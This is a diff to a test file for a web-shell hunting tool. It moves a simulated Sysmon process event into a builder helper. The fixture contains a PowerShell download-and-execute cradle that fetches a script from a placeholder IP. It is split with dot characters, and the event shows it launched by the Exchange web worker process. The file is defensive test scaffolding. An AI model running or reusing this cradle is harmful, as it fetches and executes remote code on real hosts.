@@ -13,6 +13,7 @@ import pytest
 
 import webshellhunt as wsh
 from tests.builders import logs as log_files
+from tests.builders.event_logs import sysmon
 from tests.builders.inert import live
 from tests.stories.evidence import (
     AUTH,
@@ -142,16 +143,17 @@ def quoted() -> wsh.Report:
     server.ran("/aspnet_client/gone.aspx")
     set_url(server, "03 04:10:08", f"http://f/{PAGE}")
     script = live("Invoke-Exp·ression (New-Object Net.Web·Client).Down·loadString('http://203.0.113.77/a.ps1')")
-    event = (
-        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon'/>"
-        "<EventID>1</EventID><TimeCreated SystemTime='2021-03-03T04:25:10.0Z'/><EventRecordID>7</EventRecordID>"
-        "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>EXCH01</Computer></System><EventData>"
-        "<Data Name='UtcTime'>2021-03-03 04:25:10.000</Data><Data Name='Image'>C:\\Windows\\System32\\cmd.exe</Data>"
-        f"<Data Name='CommandLine'>cmd.exe /c powershell -c \"{script}\"</Data>"
-        "<Data Name='ParentImage'>C:\\Windows\\System32\\inetsrv\\w3wp.exe</Data>"
-        "<Data Name='ParentCommandLine'>w3wp.exe -ap MSExchangeOWAAppPool</Data></EventData></Event>"
+    server.events(
+        "Microsoft-Windows-Sysmon/Operational",
+        sysmon(
+            1,
+            "2021-03-03T04:25:10Z",
+            Image=r"C:\Windows\System32\cmd.exe",
+            CommandLine=f'cmd.exe /c powershell -c "{script}"',
+            ParentImage=r"C:\Windows\System32\inetsrv\w3wp.exe",
+            ParentCommandLine="w3wp.exe -ap MSExchangeOWAAppPool",
+        ),
     )
-    server.add("Windows/System32/winevt/Logs/Sysmon.xml", f"<Events>{event}</Events>")
     return wsh.hunt(server.source())
 
 
